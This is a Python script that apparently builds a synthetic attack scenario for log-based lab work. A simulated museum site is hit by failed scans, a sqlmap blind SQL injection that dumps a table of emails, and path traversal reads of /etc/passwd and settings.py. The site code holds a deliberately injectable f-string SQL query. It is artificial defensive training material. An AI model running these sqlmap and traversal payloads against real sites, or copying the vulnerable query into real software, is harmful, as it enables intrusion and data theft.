"""A museum's site behind nginx: a failed scan, a blind SQL injection that read a table, and files read by hand."""

import sqlite3
import threading

import crowd
import lab
import servers

DAYS = 4


def play(made, folder):
    """All that happens."""
    draw = made.draw
    work, number = draw.choice(("exhibit", "piece", "object")), draw.choice(("no", "ref", "oid"))
    plan, leaf = draw.choice(("floorplan", "leaflet", "guide")), draw.choice(("file", "doc", "sheet"))
    table = draw.choice(("patrons", "friends", "donors"))
    site = _Site(work, number, plan, leaf, table)
    css = {"assets/site.css": b"a" * 4100, "assets/menu.js": b"b" * 9000, "assets/logo.png": b"c" * 2500}

    def page(draw):
        return draw.choice(
            ("/", f"/{work}?{number}={draw.randint(1, 70)}", f"/{work}?{number}={draw.randint(1, 70)}", "/visit",
             f"/find?term={draw.choice(('bronze', 'monet%27s+garden', 'select+works', 'clay'))}",
             f"/{plan}?{leaf}=ground.txt")
        )  # fmt: skip

    with servers.nginx(made, site.answer, files=css) as (access, error):
        crowd.visitors(made, 330, DAYS, page, ["/assets/site.css", "/assets/menu.js", "/assets/logo.png"])
        crowd.machines(made, DAYS, page, old=[f"/2019/show-{n}.html" for n in range(9)], feed="/news.xml")
        crowd.bots(made, DAYS)
        loud, blind, reader = made.address(), made.address(), made.address()
        made.actor("loud", "attacker")
        with made.phase("loud", "names", "discovery", "failed"):
            words = made.words("names", [f"{a}{b}" for a in _NAMES for b in ("", ".php", ".bak", "_old", ".zip", "2")])
            made.tool(
                crowd.DAY + 9000,
                loud,
                "gobuster",
                "dir",
                "-q",
                "--no-progress",
                "-t",
                "4",
                "-u",
                "{url}",
                "-w",
                words,
                "{headers}",
            )
        with made.phase("loud", "scan", "exploitation", "failed"):
            made.tool(
                crowd.DAY + 12_000, loud, "wapiti", "-u", "{url}/find?term=clay", "-m", "sql,xss,exec", "--scope", "url",  # noqa: E501
                "--flush-session", "--max-scan-time", "40", "--store-session", "{tmp}/w", "-o", "{tmp}/w.json", "-f", "json", "{headers}",  # noqa: E501
            )  # fmt: skip
        made.actor("blind", "attacker")
        url = f"{{url}}/{work}?{number}=12"
        common = (
            "--batch",
            "--disable-coloring",
            "--output-dir={tmp}/s",
            "--technique=B",
            "--dbms=sqlite",
            "--threads=2",
            "--headers={lines}",
        )
        with made.phase("blind", "prove", "exploitation", "succeeded"):
            made.tool(
                2 * crowd.DAY + 3000,
                blind,
                "sqlmap",
                "-u",
                url,
                *common,
                "--flush-session",
                "--random-agent",
                "--banner",
            )
        with made.phase("blind", "dump", "exfiltration", "succeeded", rows_taken={table: 9}):
            made.tool(
                2 * crowd.DAY + 7000,
                blind,
                "sqlmap",
                "-u",
                url,
                *common,
                "--random-agent",
                "-T",
                table,
                "-C",
                "mail",
                "--dump",
                seconds=200,
            )
        made.entry("blind", "SQL injection", f"/{work}", number)
        made.actor("reader", "attacker")
        agent, at = draw.choice(crowd.BROWSERS[:5]), 3 * crowd.DAY + 20_000
        with made.phase("reader", "look"):
            made.ask(at - 300, reader, "/", agent=agent)
            made.ask(at - 200, reader, f"/{plan}?{leaf}=ground.txt", agent=agent, referer=f"https://{made.host}/")
        with made.phase("reader", "read", "exploitation", "succeeded"):
            for name in (
                "ground.txt%00",
                "../ground.txt",
                "../../../etc/passwd",
                "../../../../etc/passwd",
                "../../../../etc/hosts",
                "../app/settings.py",
            ):
                made.ask(at, reader, f"/{plan}?{leaf}={name}", agent=agent)
                at += draw.uniform(20, 90)
        made.entry("reader", "path traversal", f"/{plan}", leaf)
    lab.write(made, folder, [access, error])


class _Site:
    def __init__(self, work, number, plan, leaf, table):
        self.names = work, number, plan, leaf
        self.lock = threading.Lock()
        self.base = sqlite3.connect(":memory:", check_same_thread=False)
        self.base.execute("CREATE TABLE works (id INTEGER, title TEXT)")
        self.base.execute(f"CREATE TABLE {table} (id INTEGER, mail TEXT)")
        self.base.executemany("INSERT INTO works VALUES (?,?)", [(n, "t" * (n % 9 + 4)) for n in range(1, 61)])
        self.base.executemany(f"INSERT INTO {table} VALUES (?,?)", [(n, f"m{n}@x.example") for n in range(1, 10)])

    def answer(self, asked):
        work, number, plan, leaf = self.names
        if asked.path in ("/", "/visit", "/news.xml", "/robots.txt"):
            return 200, "<h1>Museum</h1>" + "m" * (1800 + len(asked.path) * 113), {}
        if asked.path == "/find":
            shown = asked.query.get("term", "").replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
            return 200, "<h1>Find</h1>" + "f" * 1300 + shown.replace("'", "&#39;"), {}
        if asked.path == f"/{work}":
            return self._work(asked.query.get(number, "1"))
        if asked.path == f"/{plan}":
            name = asked.query.get(leaf, "")
            sizes = {
                "ground.txt": 1400,
                "../../../../etc/passwd": 1743,
                "../../../../etc/hosts": 221,
                "../app/settings.py": 3310,
            }
            return (200, "r" * sizes[name], {}) if name in sizes else (404, "<p>no such sheet</p>", {})
        return 404, "<h1>404</h1>" + "n" * 260, {}

    def _work(self, number):
        try:
            with self.lock:
                row = self.base.execute(f"SELECT id FROM works WHERE id = {number} LIMIT 1").fetchone()
        except (sqlite3.Error, sqlite3.Warning):
            row = None
        return (
            (200, "<h1>Work</h1>" + "w" * 2100, {})
            if row
            else (200, "<p>This work is not on show.</p>" + "w" * 700, {})
        )


_NAMES = (
    "admin", "backup", "old", "test", "db", "config", "user", "private", "tmp", "dev", "stage", "login", "upload", "data",  # noqa: E501
    "shop", "mail", "site", "wp", "cms", "panel", "secret", "archive", "log", "export", "intern", "staff", "api", "shell",  # noqa: E501
)  # fmt: skip

if __name__ == "__main__":
    lab.command("gallery", "2026-03-02", "nginx before an application", "www.museum.example", play, __doc__)
